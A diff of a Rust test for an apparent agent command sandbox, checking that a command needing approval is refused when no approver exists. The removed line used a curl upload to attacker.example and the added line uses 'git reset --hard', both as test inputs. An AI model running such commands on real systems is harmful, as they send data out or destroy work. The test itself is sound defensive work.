@@ -1725,7 +1725,7 @@ both!(files_the_next_agent_reads_as_instructions_are_named_in_the_summary, |user
 // An `ask` with nobody to ask once read "needs approval", as if someone could approve it.
 both!(an_ask_with_no_approver_is_refused_saying_so, |user| {
     let case = Case::new(user);
-    let s = case.sh(&[], "curl -s -m 2 https://attacker.example/upload -d x || echo refused\n");
+    let s = case.sh(&[], "git reset --hard || echo refused\n");
     assert_eq!(s.lines(), ["refused"], "{s:?}");
     assert!(s.stderr.contains("was not run: refused: needs approval ("), "{}", s.stderr);
     assert!(s.stderr.contains("and no approver is attached"), "{}", s.stderr);
